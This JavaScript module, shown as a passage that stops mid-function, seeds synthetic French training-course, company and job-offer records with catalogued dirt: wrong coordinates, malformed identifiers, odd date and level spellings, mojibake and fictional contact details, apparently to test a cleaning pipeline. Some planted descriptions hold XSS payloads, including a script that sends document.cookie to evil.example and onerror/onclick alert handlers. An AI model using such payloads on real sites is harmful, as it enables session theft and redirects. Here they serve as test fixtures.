// Plants, at known places, the kinds of dirt that the real sources hold, and keeps the list of what stands where.
// Every function takes the clean rows of one file and changes a few of them; no row is used twice.
import { communes, distanceKm } from "./places.mjs";
import { newCompany, pseudoOffer, toSirene } from "./records.mjs";
import { stream } from "./random.mjs";

/** What was planted: {kind, file, id, detail} and for personal data also {what, where}. */
export const planted = [];

/** A row that is no JSON, to be written as it is: balanced in quotes and brackets, as a stream cutter needs it. */
export class BrokenRow {
  constructor(text) {
    this.text = text;
  }
}

class Planter {
  constructor(file, rows, idOf) {
    this.file = file;
    this.rows = rows;
    this.idOf = idOf;
    this.random = stream(`dirt/${file}`);
    this.used = new Set();
  }

  note(kind, id, detail, more) {
    planted.push({ kind, file: this.file, id, detail, ...more });
  }

  /** A row that nothing was planted in yet. */
  take(fits = () => true) {
    for (let tries = 0; tries < 100000; tries += 1) {
      const row = this.random.pick(this.rows);
      if (this.used.has(row) || row instanceof BrokenRow || !fits(row)) continue;
      this.used.add(row);
      return row;
    }
    throw new Error(`${this.file}: no clean row left that fits ${fits}`);
  }

  /** Changes one row; `change` gives back the detail for the list. */
  plant(kind, change, fits) {
    const row = this.take(fits);
    const idBefore = this.idOf(row);
    const detail = change(row);
    this.note(kind, this.idOf(row) || idBefore, detail);
    return row;
  }

  /** Adds a row somewhere in the middle. */
  insert(row) {
    this.used.add(row);
    this.rows.splice(this.random.int(1, this.rows.length - 1), 0, row);
  }

  personal(what, where, id, text) {
    this.note("personal", id, text, { what, where });
  }
}

const clone = (row) => JSON.parse(JSON.stringify(row));

// People who do not exist, at numbers that the regulator keeps for fiction (01 99 00, 02 61 91, 03 53 01, 04 65 71, 05 36 49,
// 06 39 98) or that no operator gives out.
const people = {
  perrine: { name: "Perrine Kerbellec", mail: "perrine.kerbellec@fournil-des-grands-vents.fr" },
  aurelien: { name: "Aurélien Vastelot", mail: "a.vastelot@vastelot-travaux.com" },
  maiwenn: { name: "Maïwenn Tréguidel", mail: "maiwenn.treguidel@bretagne-coiffure.example.org" },
  gaspard: { name: "Gaspard Ollivandre", mail: "gaspard.ollivandre+alternance@ollivandre.net" },
  isaure: { name: "Isaure Montfalquin", mail: "i-montfalquin@cfa-montfalquin.asso.fr" },
  tiphaine: { name: "Tiphaine Escoubarel", mail: "TIPHAINE.ESCOUBAREL@ESCOUBAREL-RH.EU" },
};

const swapPair = (text) => text.split(",").reverse().join(",");

/** A commune of the mainland, at least `km` away from the point. */
function farCommune(random, point, km) {
  for (;;) {
    const commune = random.pick(communes);
    if (!commune.centre || commune.population < 8000 || commune.code.startsWith("97") || commune.code.startsWith("98"))
      continue;
    const [lon, lat] = commune.centre.coordinates;
    if (distanceKm(point, { lat, lon }) > km) return { commune, lat, lon };
  }
}

const mainland = (departement) => departement.length === 2;

export function dirtyFormations(file, rows) {
  const p = new Planter(file, rows, (row) => row.cle_ministere_educatif);
  const { random } = p;
  const inMainland = (row) => mainland(row.num_departement);
  const pointOf = (row) => {
    const [lat, lon] = row.lieu_formation_geo_coordonnees.split(",").map(Number);
    return { lat, lon };
  };
  const set =
    (field, value, detail = `${field} = ${JSON.stringify(value)}`) =>
    (row) => {
      row[field] = value;
      return detail;
    };

  // Coordinates
  for (const value of [null, "", undefined])
    p.plant(
      "missing_coordinates",
      set("lieu_formation_geo_coordonnees", value, "no coordinates, the commune is known"),
    );
  p.plant("zero_coordinates", set("lieu_formation_geo_coordonnees", "0,0"));
  for (let i = 0; i < 3; i += 1) {
    p.plant(
      "wrong_commune",
      (row) => {
        const far = farCommune(random, pointOf(row), 60);
        row.lieu_formation_geo_coordonnees = `${far.lat},${far.lon}`;
        return `commune ${row.code_commune_insee}, but the point lies in ${far.commune.nom} (${far.commune.code})`;
      },
      inMainland,
    );
  }
  for (let i = 0; i < 2; i += 1) {
    p.plant(
      "lon_lat_order",
      (row) => {
        row.lieu_formation_geo_coordonnees = swapPair(row.lieu_formation_geo_coordonnees);
        return `"lon,lat": ${row.lieu_formation_geo_coordonnees}`;
      },
      inMainland,
    );
  }
  p.plant("several_pairs", (row) => {
    row.lieu_formation_geo_coordonnees += "##48.117266,-1.677793##43.296482,5.36978";
    return "three pairs, the first counts";
  });
  for (let i = 0; i < 3; i += 1) {
    p.plant("float32_noise", (row) => {
      const { lat, lon } = pointOf(row);
      const noise = (degrees) => String(Math.fround(degrees)).padEnd(17, "7");
      row.lieu_formation_geo_coordonnees = `${noise(lat)},${noise(lon)}`;
      return row.lieu_formation_geo_coordonnees;
    });
  }
  p.plant("two_positions", (row) => {
    const { lat, lon } = pointOf(row);
    row.idea_geo_coordonnees_etablissement = `${(lat + 0.045).toFixed(6)},${(lon + 0.02).toFixed(6)}`;
    return "idea_geo_coordonnees_etablissement lies 5 km from lieu_formation_geo_coordonnees";
  });

  // Communes and postal codes
  p.plant(
    "cedex_postal_code",
    (row) => {
      row.code_postal = `${row.code_postal.slice(0, 2)}084`;
      row.localite = `${row.localite.toUpperCase()} CEDEX`;
      row.lieu_formation_adresse = `BP 40012 ${row.lieu_formation_adresse}`;
      return `${row.code_postal} ${row.localite}`;
    },
    inMainland,
  );
  p.plant(
    "cedex_commune",
    (row) => {
      const former = row.code_commune_insee;
      row.code_commune_insee = `${row.num_departement}901`;
      return `code_commune_insee ${row.code_commune_insee} instead of ${former}`;
    },
    inMainland,
  );
  p.plant(
    "cedex_commune",
    (row) => {
      row.code_commune_insee = "2A904";
      return "code_commune_insee 2A904";
    },
    (row) => row.num_departement === "2A",
  );
  const merged = [
    ["22247", "22450", "Pommerit-Jaudy", "22", "48.72413,-3.24203"],
    ["35293", "35140", "Saint-Marc-sur-Couesnon", "35", "48.3066,-1.3662"],
  ];
  for (const [insee, postal, city, departement, point] of merged) {
    p.plant(
      "merged_commune",
      (row) => {
        Object.assign(row, {
          code_commune_insee: insee,
          code_postal: postal,
          localite: city,
          num_departement: departement,
          lieu_formation_geo_coordonnees: point,
        });
        return `${insee} ${city}, merged into a new commune since`;
      },
      (row) => row.num_departement === departement,
    );
  }
  p.plant(
    "postal_code_of_another_town",
    (row) => {
      row.code_postal = "51100";
      return `51100 (Reims) with commune ${row.code_commune_insee}`;
    },
    (row) => row.num_departement === "67",
  );
  p.plant(
    "leading_zero_lost",
    (row) => {
      row.code_postal = row.code_postal.slice(1);
      row.num_departement = row.num_departement.slice(1);
      return `code_postal ${row.code_postal}, num_departement ${row.num_departement}`;
    },
    (row) => /^0[1-9]$/.test(row.num_departement),
  );
  for (const departement of ["2A", "2B"]) {
    p.plant(
      "corsica",
      (row) => `num_departement ${departement}, code_postal ${row.code_postal}`,
      (row) => row.num_departement === departement,
    );
  }
  p.plant(
    "overseas",
    (row) => `num_departement ${row.num_departement}, point ${row.lieu_formation_geo_coordonnees}`,
    (row) => row.num_departement === "973",
  );
  p.plant(
    "homonym_city",
    (row) => {
      Object.assign(row, { code_commune_insee: null, code_postal: null, localite: "Saint-Denis" });
      return "Saint-Denis without postal code nor commune code: four communes have that name";
    },
    (row) => row.num_departement === "93",
  );
  for (const value of ["-", ".", ","]) p.plant("empty_address", set("lieu_formation_adresse", value));
  p.plant("address_blanks", (row) => {
    row.lieu_formation_adresse = `  Campus Ardoise   ${row.lieu_formation_adresse} `;
    return "runs of blanks in the address";
  });
  p.plant("address_line_break", (row) => {
    row.lieu_formation_adresse = `Immeuble le Sextant\r\n${row.lieu_formation_adresse}\nBâtiment B`;
    return "line breaks in the address";
  });
  p.plant("address_no_space", (row) => {
    row.lieu_formation_adresse = row.lieu_formation_adresse.replace(" ", "");
    return row.lieu_formation_adresse;
  });

  // Identifiers
  for (let i = 0; i < 2; i += 1) {
    const twin = clone(p.take());
    p.note("duplicate_key", twin.cle_ministere_educatif, "the same record twice");
    p.insert(twin);
  }
  for (let i = 0; i < 2; i += 1) {
    const twin = clone(p.take());
    const original = twin.cle_ministere_educatif;
    twin.cle_ministere_educatif = original.replace(/#L01$/, "#L02");
    p.note(
      "duplicate_formation",
      twin.cle_ministere_educatif,
      `same titles, school, diploma and postal code as ${original}`,
    );
    p.insert(twin);
  }
  p.plant("siret_placeholder", (row) => {
    row.etablissement_formateur_siret = "99999999999920";
    row.etablissement_gestionnaire_siret = "12345678901234";
    return "99999999999920 and 12345678901234";
  });
  p.plant("uai_malformed", set("etablissement_formateur_uai", "054216SP"));
  p.plant("uai_malformed", set("etablissement_formateur_uai", "O470022U", "O470022U: letter O for zero"));
  p.plant("cfd_leading_zero", set("cfd", "01022001"), (row) => row.cfd);
  p.plant("cfd_missing", set("cfd", ""), (row) => row.cfd);
  p.plant("rncp_missing", set("rncp_code", null), (row) => row.rncp_code);
  p.plant(
    "rncp_of_another_trade",
    (row) => {
      Object.assign(row, {
        rncp_code: "RNCP34656",
        rncp_intitule: "Technicien supérieur des systèmes informatiques audiovisuels",
      });
      return `${row.intitule_long} linked to RNCP34656`;
    },
    (row) => row.rome_codes.includes("K1302"),
  );
  p.plant("missing_key", (row) => {
    const id = row.cle_ministere_educatif;
    row.cle_ministere_educatif = null;
    return `cle_ministere_educatif is null (it was ${id})`;
  });

  // ROME, level, titles
  p.plant("rome_pseudo_code", set("rome_codes", ["F1700", "F1702"]), (row) => row.rome_codes.includes("F1702"));
  p.plant("rome_pseudo_code", set("rome_codes", ["H12"]), (row) => row.rome_codes[0].startsWith("H"));
  p.plant("rome_pseudo_code", set("rome_codes", ["K", "K1302", "M15"]), (row) => row.rome_codes.includes("K1302"));
  for (let i = 0; i < 2; i += 1) {
    p.plant("rome_lower_case", (row) => {
      row.rome_codes = row.rome_codes.map((code) => `${code.toLowerCase()} `);
      return JSON.stringify(row.rome_codes);
    });
  }
  p.plant("rome_missing", set("rome_codes", []));
  p.plant("rome_missing", set("rome_codes", null));
  const levels = {
    3: ["3", "niveau3", "V", "3 (Cap...)"],
    4: ["Niveau 4", "IV"],
    5: ["5", "III"],
    6: ["Niveau 6 "],
    7: ["7 (Master, Titre ingénieur...)"],
  };
  for (const [level, spellings] of Object.entries(levels)) {
    for (const spelling of spellings)
      p.plant("level_spelling", set("niveau", spelling), (row) => row.niveau.startsWith(level));
  }
  p.plant("level_missing", set("niveau", null));
  p.plant("title_lower_case", (row) => {
    row.intitule_long = row.intitule_rco.toLowerCase();
    return row.intitule_long;
  });
  p.plant("title_mention", (row) => {
    row.intitule_long = ` mention ${row.intitule_rco.toLowerCase()}  `;
    return JSON.stringify(row.intitule_long);
  });
  p.plant("title_missing", (row) => {
    Object.assign(row, { intitule_long: null, intitule_court: null, intitule_rco: "" });
    return "no title at all";
  });
  p.plant(
    "title_doubled_apostrophe",
    (row) => {
      Object.assign(row, {
        intitule_long: "CONDUITE D''ENGINS DE TRAVAUX PUBLICS (TP)",
        intitule_rco: "conduite d''engins de travaux publics",
      });
      return "d''engins";
    },
    (row) => row.rome_codes.includes("F1302"),
  );

  // Dates, booleans, lists
  p.plant("period_spelling", set("periode", '["2027-09"]', "periode: a JSON list inside a string"));
  p.plant("period_spelling", set("periode", ["9"], "periode: a month number"));
  p.plant("period_spelling", set("periode", ["2027-09-01T00:00:00.000Z"], "periode: a timestamp"));
  p.plant("period_spelling", set("periode", "2027-09", "periode: a bare string"));
  p.plant(
    "period_run",
    set(
      "periode",
      Array.from(
        { length: 20 },
        (_, i) => `${2026 + Math.floor((8 + i) / 12)}-${String(((8 + i) % 12) + 1).padStart(2, "0")}`,
      ),
      "20 months in a row",
    ),
  );
  p.plant("date_spelling", set("date_debut", ["01/09/2027"], "date_debut DD/MM/YYYY"));
  p.plant("date_spelling", set("date_debut", ["9/1/27"], "date_debut in the US order"));
  p.plant("date_spelling", set("date_debut", ["2027-08-31Z"], "date_debut: a date with a zone"));
  p.plant(
    "date_spelling",
    set("date_debut", ["2027-09-01T08:00:00+0200\n"], "date_debut: offset without colon, line break"),
  );
  p.plant("date_epoch", set("created_at", "1970-01-01T00:00:00.000Z"));
  p.plant(
    "date_epoch",
    set("last_update_at", "1970-01-17T20:41:12.000Z", "last_update_at: seconds read as milliseconds"),
  );
  p.plant("dates_of_unequal_length", (row) => {
    row.date_fin = [];
    return "one date_debut, no date_fin";
  });
  for (const value of ["true", "Oui", "OUI", "1"]) p.plant("boolean_text", set("published", value));
  p.plant("boolean_text", set("published", "false"));
  p.plant("broken_list", set("tags", '2026","2027","2028'));
  for (let i = 0; i < 6; i += 1) p.plant("unpublished", set("published", false));

  // Text and people
  p.plant("html_in_text", (row) => {
    row.objectif = `<div style="font-family:Arial;color:#333"><p>${row.objectif}</p><ul><li>Atelier</li><li>Projet</li></ul><script>window.location='https://evil.example/'</script></div>`;
    row.contenu = '<p onclick="alert(1)">Programme en <b>trois</b> blocs&nbsp;: pratique &amp; th&eacute;orie</p>';
    return "<script>, onclick, inline styles and entities in objectif and contenu";
  });
  p.plant("school_name_marks", (row) => {
    row.etablissement_formateur_entreprise_raison_sociale = `***"${row.etablissement_formateur_entreprise_raison_sociale}"***`;
    row.etablissement_formateur_enseigne = null;
    return row.etablissement_formateur_entreprise_raison_sociale;
  });
  p.plant("personal_data", (row) => {
    const { name, mail } = people.isaure;
    Object.assign(row, { email: mail, num_tel: "0465710283", etablissement_formateur_courriel: mail });
    row.objectif = `${row.objectif} Renseignements : ${mail} ou +33 (0)4 65 71 02 84.`;
    row.nom_contact = name;
    const id = row.cle_ministere_educatif;
    p.personal("email", "contact", id, mail);
    p.personal("phone", "contact", id, "0465710283");
    p.personal("phone", "text", id, "+33 (0)4 65 71 02 84");
    p.personal("name", "contact", id, name);
    return "e-mail, phone and name in contact fields and in objectif";
  });
  return rows;
}

export function dirtyCompanies(file, rows) {
  const p = new Planter(file, rows, (row) => row.siret);
  const { random } = p;
  const x = "coordonneeLambertAbscisseEtablissement";
  const y = "coordonneeLambertOrdonneeEtablissement";
  const inMainland = (row) => !row.zip_code.startsWith("97");
  const setAll = (values, detail) => (row) => {
    Object.assign(row, values);
    return detail ?? JSON.stringify(values);
  };

  for (let i = 0; i < 5; i += 1) p.plant("zero_coordinates", setAll({ [x]: 0, [y]: 0 }, "(0,0), the commune is known"));
  for (let i = 0; i < 3; i += 1)
    p.plant("missing_coordinates", setAll({ [x]: null, [y]: null }, "no coordinates, the commune is known"));
  p.plant("no_place", (row) => {
    Object.assign(row, {
      [x]: 0,
      [y]: 0,
      zip_code: null,
      insee_city_code: null,
      libelleCommuneEtablissement: null,
      street_name: null,
      street_number: null,
    });
    return "neither coordinates nor commune";
  });
  for (let i = 0; i < 2; i += 1) {
    p.plant(
      "wrong_commune",
      (row) => {
        const { lat, lon, commune } = farCommune(random, { lat: 46.5, lon: 2.5 }, 350);
        [row[x], row[y]] = toSirene({ lat, lon }, "75001");
        return `declared in ${row.insee_city_code}, placed in ${commune.nom} (${commune.code})`;
      },
      (row) => row.zip_code.startsWith("75") || row.zip_code.startsWith("77"),
    );
  }
  for (const [prefix, label] of [
    ["971", "UTM 20 north"],
    ["972", "UTM 20 north"],
    ["973", "UTM 22 north"],
    ["974", "UTM 40 south"],
    ["976", "UTM 38 south"],
  ]) {
    p.plant(
      "overseas_projection",
      (row) => `${row.zip_code}: ${label}, (${row[x]}, ${row[y]})`,
      (row) => row.zip_code.startsWith(prefix),
    );
  }
  for (const departement of ["2A", "2B"]) {
    p.plant(
      "corsica",
      (row) => `insee_city_code ${row.insee_city_code}, zip_code ${row.zip_code}`,
      (row) => row.insee_city_code.startsWith(departement),
    );
  }
  p.plant(
    "cedex_postal_code",
    (row) => {
      row.zip_code = `${row.zip_code.slice(0, 2)}093`;
      row.libelleCommuneEtablissement += " CEDEX";
      return `${row.zip_code} ${row.libelleCommuneEtablissement}`;
    },
    inMainland,
  );
  p.plant(
    "leading_zero_lost",
    (row) => {
      row.zip_code = row.zip_code.slice(1);
      return `zip_code ${row.zip_code}`;
    },
    (row) => row.zip_code.startsWith("0"),
  );

  p.plant("siret_13_digits", (row) => {
    row.siret = row.siret.slice(1);
    return `${row.siret}: the leading zero is lost`;
  });
  p.plant("siret_13_digits", (row) => {
    row.siret = Number(row.siret.slice(1));
    return `${row.siret}: a number`;
  });
  for (const value of ["12345678901234", "99999999999920", "78136153000000"])
    p.plant("siret_placeholder", setAll({ siret: value }));
  p.plant("siret_check_digit", (row) => {
    row.siret = row.siret.slice(0, 13) + ((Number(row.siret[13]) + 1) % 10);
    return "the last digit is wrong";
  });
  p.plant("siret_spaces", (row) => {
    row.siret = row.siret.replace(/(\d{3})(\d{3})(\d{3})(\d{5})/, "$1 $2 $3 $4");
    return row.siret;
  });
  // La Poste numbers its establishments so that the sum of the digits is a multiple of five; Luhn does not hold.
  p.plant(
    "siret_la_poste",
    setAll(
      { siret: "35600000009993", enseigne: "PLATEFORME COURRIER COLIS", raison_sociale: "LA POSTE" },
      "fails Luhn by design",
    ),
  );
  for (let i = 0; i < 3; i += 1) {
    const twin = clone(p.take());
    twin.enseigne = `${twin.enseigne} - Dépôt`;
    p.note("duplicate_siret", twin.siret, "the same SIRET twice, with two names");
    p.insert(twin);
  }

  p.plant("naf_spelling", setAll({ activitePrincipaleEtablissement: "0000Z", naf_code: "0000Z" }));
  p.plant("naf_spelling", (row) => {
    row.activitePrincipaleEtablissement = row.naf_code = row.naf_code.toLowerCase();
    return row.naf_code;
  });
  p.plant("naf_spelling", (row) => {
    row.activitePrincipaleEtablissement = row.naf_code = `${row.naf_code.slice(0, 2)}.${row.naf_code.slice(2)}`;
    return row.naf_code;
  });
  p.plant(
    "naf_missing",
    setAll(
      {
        activitePrincipaleEtablissement: null,
        naf_code: null,
        labelActivitePrincipaleEtablissement: null,
        naf_label: null,
      },
      "no NAF",
    ),
  );
  p.plant(
    "naf_leading_zero",
    (row) => row.naf_code,
    (row) => row.naf_code.startsWith("0"),
  );
  p.plant("size_missing", setAll({ company_size: null }));

  const romes = (...codes) =>
    codes.map((code, index) => ({ rome_code: code, normalized_score: 0.0112 - index * 0.0001 }));
  p.plant(
    "rome_pseudo_code",
    setAll({ rome_codes: romes("F1700", "F1703", "H12") }, "F1700, F1703, H12"),
    (row) => row.naf_code === "4399C",
  );
  p.plant("rome_lower_case", (row) => {
    row.rome_codes = row.rome_codes.map(({ rome_code, normalized_score }) => ({
      rome_code: rome_code.toLowerCase(),
      normalized_score,
    }));
    return row.rome_codes.map((rome) => rome.rome_code).join(" ");
  });
  for (let i = 0; i < 2; i += 1) p.plant("rome_missing", setAll({ rome_codes: [] }));
  p.plant("rome_repeated", (row) => {
    row.rome_codes = [...row.rome_codes, row.rome_codes[0]];
    return row.rome_codes.map((rome) => rome.rome_code).join(" ");
  });

  p.plant("name_excel_error", setAll({ enseigne: "#N/D" }));
  p.plant("name_excel_error", setAll({ enseigne: "#N/D", raison_sociale: "#N/D" }));
  p.plant("name_marks", (row) => {
    row.enseigne = `"${row.enseigne.toUpperCase()}"`;
    return row.enseigne;
  });
  p.plant("name_marks", (row) => {
    row.enseigne = `***${row.enseigne.toUpperCase()}***`;
    return row.enseigne;
  });
  p.plant("name_blanks", (row) => {
    row.enseigne = `  ${row.enseigne} `;
    return JSON.stringify(row.enseigne);
  });
  p.plant("name_empty", setAll({ enseigne: "" }, "enseigne is empty, raison_sociale is there"));
  p.plant("name_null_word", setAll({ enseigne: "NULL" }, "the word NULL for nothing"));
  p.plant("mojibake", setAll({ enseigne: "CrÃ©ation & RÃ©novation du BÃ¢timent" }, "UTF-8 read as CP1252"));

  const withContact = (person, phone) => {
    p.plant("personal_data", (row) => {
      Object.assign(row, { email: person.mail, phone });
      p.personal("email", "contact", row.siret, person.mail);
      p.personal("phone", "contact", row.siret, phone);
      return "email and phone of a person";
    });
  };
  withContact(people.aurelien, "0199004127");
  withContact(people.tiphaine, "+33 5 36 49 18 22");
  withContact(people.gaspard, "06.39.98.55.01");

  const broken = (siret, text) => {
    p.note("broken_json", siret, text);
    p.insert(new BrokenRow(text));
  };
  broken(
    "00404830500014",
    '{"siret":"00404830500014","enseigne":"Atelier du Merle Bleu","zip_code":75011,,"rome_codes":[{"rome_code":"F1702","normalized_score":0.0.1}]}',
  );
  return rows;
}

const descriptionDirt = [
  [
    "entities",
    (text) => `Qualit&eacute; &amp; s&eacute;curit&eacute; : l&#039;entreprise d&rsquo;abord.\n\n${text}`,
    "undecoded HTML entities",
  ],
  [
    "double_escaped",
    (text) => `Une ann&amp;eacute;e d&amp;#039;apprentissage &amp;amp; un m&amp;eacute;tier.\n\n${text}`,
    "entities escaped twice",
  ],
  [
    "html_styles",
    (text) =>
      `<p style="margin:0;color:red"><span style='font-size:14px'>${text.split("\n")[0]}</span></p><br/><ul><li>Sérieux</li><li>Motivation</li></ul>${text}`,
    "HTML with inline styles",
  ],
  [
    "script",
    (text) =>
      `${text}\n<script>document.location='https://evil.example/?c='+document.cookie</script><img src=x onerror="alert(1)">`,
    "<script> and onerror",
  ],
  ["replacement_character", (text) => text.replace(/é/, "\ufffd").replace(/û|à/, "\ufffd"), "U+FFFD"],
  [
    "c1_bytes",
    (text) => text.replace(/'/g, "\u0092").replace(/ : /, " \u0096 "),
    "C1 characters: CP1252 read as Latin-1",
  ],
  [
    "mojibake",
    (text) =>
      Buffer.from(text.replace(/[’œŒ]/g, "'"), "utf8")
        .toString("latin1")
        .replace(/[\u0080-\u009f]/g, (c) => cp1252[c] ?? c),
    "UTF-8 read as CP1252",
  ],
  ["lost_apostrophes", (text) => text.replace(/['’]/g, ""), "apostrophes lost"],
  [
    "control_characters",
    (text) => text.replace(/ /, "\u000b").replace(/\n\n/, "\n\u0001\u200b\n"),
    "control and zero-width characters",
  ],
  ["cdata_remains", (text) => `<![CDATA[${text}]]>`, "CDATA marks in the text"],
  ["line_ends", (text) => text.replace(/\n/g, "\r\n").replace(/ de /g, "  de "), "CRLF and double blanks"],
];

// The characters that CP1252 shows for bytes 0x80 to 0x9f, as far as French text needs them.
const cp1252 = Object.fromEntries(
  Object.entries({
    80: "€",
    82: "‚",
    83: "ƒ",
    84: "„",
    85: "…",
    86: "†",
    87: "‡",
    88: "ˆ",
    89: "‰",
    "8a": "Š",
    "8b": "‹",
    "8c": "Œ",
    "8e": "Ž",
    91: "‘",
    92: "’",
    93: "“",
    94: "”",
    95: "•",
    96: "–",
    97: "—",
    98: "˜",
    99: "™",
    "9a": "š",
    "9b": "›",
    "9c": "œ",
    "9e": "ž",
    "9f": "Ÿ",
  }).map(([code, character]) => [String.fromCharCode(parseInt(code, 16)), character]),
);

/** The kinds of text dirt from `first` on, `count` of them, so that each kind stands in one of the offer files at least. */
function dirtyTexts(p, first, count, get, put) {
  for (let i = 0; i < count; i += 1) {
    const [kind, change, detail] = descriptionDirt[(first + i) % descriptionDirt.length];
    p.plant(kind, (row) => {
      put(row, change(get(row)));
      return detail;
    });
  }
}

export function dirtyFranceTravail(file, rows, variant) {
  const p = new Planter(file, rows, (row) => row.id);
  const { random } = p;
  const inMainland = (row) =>
    mainland(row.lieuTravail.libelle.slice(0, 2)) && !row.lieuTravail.commune.startsWith("97");
  const text = (row) => row.description;
  const setText = (row, value) => {
    row.description = value;
  };
  const departementOnly = (libelle, prefix) =>
    p.plant(
      "departement_only",
      (row) => {
        row.lieuTravail = { libelle };
        return `no point, libelle "${libelle}"`;
      },
      (row) => row.lieuTravail.commune.startsWith(prefix),
    );

  if (variant === "pages") {
    for (let i = 0; i < 4; i += 1) {
      p.plant(
        "swapped_coordinates",
        (row) => {
          const { latitude, longitude } = row.lieuTravail;
          Object.assign(row.lieuTravail, { latitude: longitude, longitude: latitude });
          return `latitude ${longitude}, longitude ${latitude}`;
        },
        inMainland,
      );
    }
    for (let i = 0; i < 2; i += 1) {
      p.plant(
        "wrong_commune",
        (row) => {
          const far = farCommune(random, { lat: row.lieuTravail.latitude, lon: row.lieuTravail.longitude }, 60);
          Object.assign(row.lieuTravail, { latitude: far.lat, longitude: far.lon });
          return `"${row.lieuTravail.libelle}" placed in ${far.commune.nom} (${far.commune.code})`;
        },
        inMainland,
      );
    }
    departementOnly("75 - Paris (Dept.)", "75");
    departementOnly("93 - Seine-Saint-Denis", "93");
    departementOnly("2B - Haute-Corse", "2B");
    departementOnly("Île-de-France", "78");
    departementOnly("973 - Guyane", "973");
    p.plant("no_place", (row) => {
      row.lieuTravail = { libelle: "France" };
      return 'libelle "France"';
    });
    p.plant("coordinates_text", (row) => {
      row.lieuTravail.latitude = String(row.lieuTravail.latitude);
      row.lieuTravail.longitude = String(row.lieuTravail.longitude);
      return "latitude and longitude as text";
    });
    p.plant("zero_coordinates", (row) => {
      Object.assign(row.lieuTravail, { latitude: 0, longitude: 0 });
      return "(0,0)";
    });
    dirtyTexts(p, 0, 6, text, setText);
  } else {
    p.plant(
      "swapped_coordinates",
      (row) => {
        const { latitude, longitude } = row.lieuTravail;
        Object.assign(row.lieuTravail, { latitude: longitude, longitude: latitude });
        return `latitude ${longitude}, longitude ${latitude}`;
      },
      inMainland,
    );
    p.plant(
      "rome_pseudo_code",
      (row) => {
        row.romeCode = "F1700";
        return "F1700";
      },
      (row) => row.romeCode.startsWith("F17"),
    );
    p.plant("rome_lower_case", (row) => {
      row.romeCode = row.romeCode.toLowerCase();
      return row.romeCode;
    });
    p.plant("rome_missing", (row) => {
      delete row.romeCode;
      delete row.romeLibelle;
      return "no romeCode";
    });
    p.plant(
      "rome_v4",
      (row) => {
        Object.assign(row, { romeCode: "M1855", romeLibelle: "Développeur / Développeuse web" });
        return "M1855 is a code of ROME 4, absent from ROME 3";
      },
      (row) => row.romeCode === "M1805",
    );
    dirtyTexts(p, 6, 5, text, setText);
  }

  for (let i = 0; i < 2; i += 1) {
    p.plant("h_f_twice", (row) => {
      row.intitule = row.intitule.replace(/ \(H\/F\)$/, " H/F (H/F)");
      return row.intitule;
    });
    p.plant("company_missing", (row) => {
      row.entreprise = { entrepriseAdaptee: false };
      return "no company name";
    });
    p.plant("not_work_study", (row) => {
      Object.assign(row, {
        natureContrat: "Contrat travail",
        alternance: false,
        typeContrat: "CDI",
        typeContratLibelle: "Contrat à durée indéterminée",
      });
      row.intitule = row.intitule.replace(/Apprentie? |en (alternance|apprentissage) ?/g, "");
      return "an ordinary job";
    });
  }
  p.plant("title_repeated", (row) => {
    row.intitule = `${row.intitule} ${row.intitule}`;
    return row.intitule;
  });
  p.plant("salary_marks", (row) => {
    row.salaire = { libelle: "Mensuel de 800.0 ï¿½ 1200.0 Euros", commentaire: "selon l��ge" };
    return row.salaire.libelle;
  });
  p.plant("date_spelling", (row) => {
    row.dateCreation = "2026-10-16T17:29:33+0100\n";
    return row.dateCreation;
  });
  p.plant("expired", (row) => {
    row.dateCreation = row.dateActualisation = "2026-07-02T09:12:45.000Z";
    return "created on 2026-07-02, so past its two months";
  });
  for (let i = 0; i < 2; i += 1) {
    const twin = clone(p.take());
    twin.id = twin.id.replace(/^\d+/, "205");
    p.note("repeated_offer", twin.id, "same title, company and commune as another id");
    p.insert(twin);
  }
  const twin = clone(p.take());
  p.note("duplicate_key", twin.id, "the same id twice");
  p.insert(twin);

  const spellings =
    variant === "pages"
      ? ["01 99 00 41 28", "01.99.00.41.29", "+33 1 99 00 41 30", "0033 1 99 00 41 31"]
      : ["06-39-98-55-02", "06/39/98/55/03", "06\u00a039\u00a098\u00a055\u00a004", "0639985505"];
  const person = variant === "pages" ? people.perrine : people.gaspard;
  for (const phone of spellings) {
    p.plant("personal_data", (row) => {
      row.description = `${row.description}\nContact : ${phone}`;
      p.personal("phone", "text", row.id, phone);
      return "phone in the description";
    });
  }
  p.plant("personal_data", (row) => {
    row.description = `${row.description}\nEnvoyez votre CV à ${person.mail} ou demandez ${person.name} au ${spellings[0].slice(0, -1)}9.`;
    row.contact = {
      nom: `${row.entreprise.nom} - Mme ${person.name}`,
      courriel: person.mail,
      telephone: `${spellings[0].slice(0, -1)}9`,
      coordonnees1: `Courriel : ${person.mail}`,
    };
    p.personal("email", "text", row.id, person.mail);
    p.personal("phone", "text", row.id, `${spellings[0].slice(0, -1)}9`);
    p.personal("name", "text", row.id, person.name);
    return "name, e-mail and phone in contact and in the description";
  });
  p.plant("personal_data", (row) => {
    const hidden =
      variant === "pages"
        ? "perrine.kerbellec (at) fournil-des-grands-vents . fr"
        : "gaspard.ollivandre [arobase] ollivandre.net";
    row.description = `${row.description}\nÉcrire à ${hidden}`;
    p.personal("email", "text", row.id, hidden);
    return "e-mail address in disguise";
  });
  return rows;
}

export function dirtyLbaOffers(file, rows, { matcha, companySiret }) {
  const p = new Planter(file, rows, (row) => row.identifier.id);
  const { random } = p;
  const point = (row) => row.workplace.location.geopoint.coordinates;
  const inMainland = (row) => point(row)[0] > -6 && point(row)[0] < 9.6 && point(row)[1] > 41;
  const text = (row) => row.offer.description;
  const setText = (row, value) => {
    row.offer.description = value;
  };

  p.plant(
    "lon_lat_order",
    (row) => {
      point(row).reverse();
      return `coordinates ${JSON.stringify(point(row))} are [lat, lon]`;
    },
    inMainland,
  );
  p.plant("missing_coordinates", (row) => {
    row.workplace.location.geopoint = null;
    return `no geopoint, address "${row.workplace.location.address}"`;
  });
  p.plant("expired", (row) => {
    row.offer.publication = { creation: "2026-08-20T08:00:00.000Z", expiration: "2026-10-20T00:00:00.000Z" };
    return "expired on 2026-10-20";
  });
  p.plant("expired", (row) => {
    row.offer.publication = { creation: "2026-08-25T08:00:00.000Z", expiration: "2026-10-25T22:00:00+0100" };
    return "expired on 2026-10-25, offset without colon";
  });
  for (const status of ["Cancelled", "Filled", "Annulée"]) {
    p.plant("not_active", (row) => {
      row.offer.status = status;
      return `status ${status}`;
    });
  }
  p.plant("level_spelling", (row) => {
    row.offer.target_diploma = { european: matcha ? "3 (CAP...)" : "Niveau 5", label: "Indifférent" };
    return JSON.stringify(row.offer.target_diploma);
  });
  p.plant("rome_lower_case", (row) => {
